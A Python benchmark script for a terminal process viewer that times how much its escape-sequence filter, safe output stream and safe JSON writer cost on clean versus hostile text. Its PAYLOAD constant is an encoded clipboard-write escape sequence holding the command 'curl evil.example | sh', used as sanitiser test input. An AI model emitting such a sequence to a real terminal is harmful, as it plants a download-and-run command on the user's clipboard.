"""What showing text from data costs: the screen's line filter and the command line's streams.

    python bench/safe_text.py [--repeat 20]

1. The screen: :class:`moomtui.tui.controls.ShowControls` on a 200-column line of the process
   view as Textual hands it over (a dozen styled segments) — clean, and with an escape
   sequence in a task's name — per line, and for a 60-line screen.
2. The command line: :class:`moomtui.text.SafeStream` writing 1 MB of ``moomtui run``'s
   output (``leaky-apache --for 10m``, the kernel log and the summary, again and again),
   line by line, against the plain stream; and the same text with a payload in every
   100th line.
3. JSON: :func:`moomtui.text.dumps` against ``json.dumps`` on ``snapshot --json``'s shape
   for 5,000 tasks.

Prints the figures (the median of ``--repeat`` runs).
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import statistics
import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from rich.segment import Segment
from rich.style import Style
from textual.color import Color

from moomtui import cli
from moomtui.text import SafeStream, dumps
from moomtui.tui.controls import ShowControls

PAYLOAD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


def median_seconds(fn: Callable[[], object], repeat: int) -> float:
    times = []
    for _ in range(repeat):
        start = time.perf_counter()
        fn()
        times.append(time.perf_counter() - start)
    return statistics.median(times)


def line(comm: str) -> list[Segment]:
    """A process view row of 200 columns, in the segments it is drawn with."""
    cells = [" ", "  1234", " ", "root    ", " ", f"{comm:<15}", " ", "  12.3M", " ", "  8.1M"]
    cells += [" ", "S", " ", "  0", " ", "   0.0", " ", "  512", " ", "⚑ "]
    styles = [Style(color="grey70", bgcolor="black"), Style(color="green", bold=True)]
    segments = [Segment(text, styles[i % 2]) for i, text in enumerate(cells)]
    width = Segment.get_line_length(segments)
    return [*segments, Segment(" " * (200 - width), styles[0])]


def screen(repeat: int) -> None:
    show = ShowControls()
    black = Color(0, 0, 0)
    clean, hostile = line("httpd"), line(PAYLOAD[:15])
    for name, segments in (("clean line", clean), ("line with an escape", hostile)):
        per_line = median_seconds(lambda s=segments: [show.apply(s, black) for _ in range(1000)],
                                  repeat) / 1000  # fmt: skip
        print(f"filter, {name}: {per_line * 1e6:.2f} µs; a 60-line screen {per_line * 60e3:.3f} ms")


def run_output() -> str:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        cli.main(["run", "leaky-apache", "--for", "10m"])
    return out.getvalue()


def streams(repeat: int) -> None:
    once = run_output()
    text = once * (1_000_000 // len(once) + 1)
    lines = text.splitlines(keepends=True)
    hostile = [f"{PAYLOAD}{ln}" if i % 100 == 0 else ln for i, ln in enumerate(lines)]
    print(f"moomtui run's output: {len(lines)} lines, {len(text) / 1e6:.1f} MB")
    for name, data in (("clean", lines), ("a payload every 100 lines", hostile)):
        plain = median_seconds(lambda d=data: io.StringIO().writelines(d), repeat)
        safe = median_seconds(lambda d=data: SafeStream(io.StringIO()).writelines(d), repeat)
        print(f"  {name}: plain {plain * 1e3:.2f} ms, safe {safe * 1e3:.2f} ms")


def json_out(repeat: int) -> None:
    tasks = [
        {"pid": i, "comm": f"worker{i}" if i % 100 else f"w{PAYLOAD}", "rss": i * 7, "adj": 0}
        for i in range(5000)
    ]
    doc = {"tasks": tasks, "verdicts": {"5.9": {"pid": 1, "comm": "httpd"}}}
    plain = median_seconds(lambda: json.dumps(doc, indent=2, ensure_ascii=False), repeat)
    safe = median_seconds(lambda: dumps(doc, indent=2), repeat)
    print(f"JSON of 5,000 tasks: json.dumps {plain * 1e3:.2f} ms, text.dumps {safe * 1e3:.2f} ms")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--repeat", type=int, default=20)
    repeat = parser.parse_args().repeat
    screen(repeat)
    streams(repeat)
    json_out(repeat)


if __name__ == "__main__":
    main()
